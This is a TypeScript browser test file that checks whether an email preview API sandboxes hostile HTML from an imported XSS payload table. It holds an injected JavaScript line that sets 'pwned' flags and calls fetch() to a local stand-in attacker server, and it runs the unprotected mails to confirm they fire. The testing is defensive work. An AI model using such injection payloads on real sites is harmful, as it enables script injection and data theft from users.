import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeEach, expect } from 'vitest'
import { previewOf } from '#api/preview.ts'
import type { TestSource } from '#contract/spam-test.ts'
import { filled, hostileHtml } from '../hostile/xss-table.ts'
import { openContext } from './browser.ts'
import { test } from './worker.ts'

/** Every row of the table of hostile HTML in a real browser that runs scripts: the preview runs none and loads nothing. */

const hits: string[] = []
let browser: Browser
let attacker: Server
let site: Server
let [attackerAt, siteAt] = ['', '']

const js = () => `top.pwned=1;window.pwned=1;parent.document.title=1;fetch(\`${attackerAt}/x\`)`
const mails = () => hostileHtml.map(([, html]) => filled(html, js(), attackerAt))
const wordsOf = (n: number) => hostileHtml[n]![0]

/** `/preview/N` as the API gives it, `/bare/N` without its protection, `/frames` all of them as a report shows one. */
function answer(path: string): Response {
  const [, kind, number = ''] = path.split('/')
  const html = mails()[Number(number)] ?? ''
  if (kind === 'preview') return previewOf({ html, text: null } as TestSource)
  const type = { headers: { 'Content-Type': 'text/html; charset=utf-8' } }
  if (kind === 'bare') return new Response(html, type)
  const frames = mails().map((_, n) => `<iframe sandbox="" src="/preview/${n}"></iframe>`)
  return new Response(`<!DOCTYPE html><title>Report</title>${frames.join('')}`, type)
}

const listen = async (server: Server) => {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`
}

test.beforeAll(async ({ chromium }) => {
  browser = chromium
  attacker = createServer((request, response) => {
    hits.push(request.url ?? '')
    response.setHeader('Access-Control-Allow-Origin', '*').end('top.pwned=1')
  })
  site = createServer(async (request, response) => {
    const made = answer(request.url ?? '')
    response.setHeaders(made.headers)
    response.end(await made.text())
  })
  ;[attackerAt, siteAt] = await Promise.all([listen(attacker), listen(site)])
})
beforeEach(() => {
  hits.length = 0
})
afterAll(async () => {
  attacker?.close()
  site?.close()
})

const pwned = (page: Page) => page.evaluate(() => 'pwned' in globalThis)

async function opened(path: string) {
  const context = await openContext(browser)
  const page = await context.newPage()
  const dialogs: string[] = []
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  await page.goto(siteAt + path, { waitUntil: 'networkidle' })
  return { page, dialogs, close: () => context.close() }
}

test('without the protection the mails do what they are made for', async () => {
  const tried = ['a script', 'a picture that fails', 'a refresh', 'style sheets']
  for (const name of tried) {
    hits.length = 0
    const { close } = await opened(`/bare/${hostileHtml.findIndex(([each]) => each === name)}`)
    expect(hits.length, name).toBeGreaterThan(0)
    await close()
  }
})

test('in the frames of a report they run and load nothing', async () => {
  const { page, dialogs } = await opened('/frames')
  expect(page.frames().length).toBeGreaterThan(hostileHtml.length)
  expect(await pwned(page)).toBe(false)
  expect(await page.title()).toBe('Report')
  for (const frame of page.frames()) expect(frame.url()).not.toContain(attackerAt)
  expect([hits, dialogs]).toEqual([[], []])
})

test('opened by themselves they run and load nothing', async () => {
  const left = hostileHtml.map((_, n) => n)
  const wrong: string[] = []
  const work = async () => {
    for (let n = left.shift(); n !== undefined; n = left.shift()) {
      const { page, dialogs } = await opened(`/preview/${n}`)
      const stayed = page.url() === `${siteAt}/preview/${n}`
      if (!stayed || dialogs.length > 0 || (await pwned(page))) wrong.push(wordsOf(n))
    }
  }
  await Promise.all(Array.from({ length: 6 }, work))
  expect([wrong, hits]).toEqual([[], []])
})
